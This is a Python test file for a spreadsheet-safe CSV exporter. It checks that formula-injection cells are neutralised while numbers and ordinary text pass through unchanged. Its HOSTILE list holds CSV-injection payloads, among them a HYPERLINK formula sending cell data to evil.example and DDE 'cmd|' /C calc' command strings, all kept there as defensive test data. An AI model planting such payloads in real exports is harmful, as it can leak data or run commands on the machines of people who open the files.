"""Spreadsheet-safe CSV: hostile cells are neutralised, numbers stay numbers, nothing is lost."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.export import FORMULA_TRIGGERS, NEUTRALISER, cell_text, csv_bytes, neutralise, write_csv

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+1-1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "-",
    "+86 138 0000 0000",
    "-1e5",
    "--1",
    "-1,5",
]
HARMLESS = ["Alice", "", "3.98", "O'Brien", "ana@example.com", "张伟", "a=b", "1+1", "Ré-évaluation", "3-5"]


def read_back(data: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised_and_kept_whole(text: str) -> None:
    [[cell]] = read_back(csv_bytes([text], []))
    assert cell == NEUTRALISER + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text: str) -> None:
    [[cell]] = read_back(csv_bytes([text], []))
    assert cell == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, "-3"),
        (0, "0"),
        (Decimal("-0.25"), "-0.25"),
        (Decimal("3.98"), "3.98"),
        (Decimal("1E+2"), "100"),
        (-1.5, "-1.5"),
        ("-3", "-3"),
        ("-3.75", "-3.75"),
        (None, ""),
        (True, "TRUE"),
        (date(2026, 11, 30), "2026-11-30"),
        (float("-inf"), "'-inf"),
        (Decimal("-Infinity"), "'-Infinity"),
        (float("nan"), "nan"),
    ],
)
def test_numbers_stay_numbers(value: object, written: str) -> None:
    assert cell_text(value) == written  # type: ignore[arg-type]


def test_a_whole_export_with_header_rows_and_bom() -> None:
    data = csv_bytes(
        ["部门", "=criterion", "final score"],
        [["研发, 北京", "-2+3", Decimal("3.98")], ['He said "hi"\nthen left', -1, None]],
    )
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_back(data) == [
        ["部门", "'=criterion", "final score"],
        ["研发, 北京", "'-2+3", "3.98"],
        ['He said "hi"\nthen left', "-1", ""],
    ]


def test_without_bom_and_to_a_text_stream() -> None:
    assert not csv_bytes(["a"], [], bom=False).startswith(b"\xef\xbb\xbf")
    stream = io.StringIO(newline="")
    write_csv(stream, ["name", "rating"], [["@bob", 4]])
    assert stream.getvalue() == "name,rating\r\n'@bob,4\r\n"


@given(st.text())
def test_any_text_reads_back_safe_and_lossless(text: str) -> None:
    [[cell, end]] = read_back(csv_bytes([text, "end"], []))
    plain_number = neutralise(text) == text and text.startswith("-")
    assert not cell.lstrip(" ").startswith(FORMULA_TRIGGERS) or plain_number
    assert cell in (text, NEUTRALISER + text) and end == "end"


@given(
    st.integers()
    | st.decimals(allow_nan=False, allow_infinity=False)
    | st.floats(allow_nan=False, allow_infinity=False)
)
def test_any_finite_number_is_written_without_a_mark(number: int | Decimal | float) -> None:
    assert not cell_text(number).startswith(NEUTRALISER)
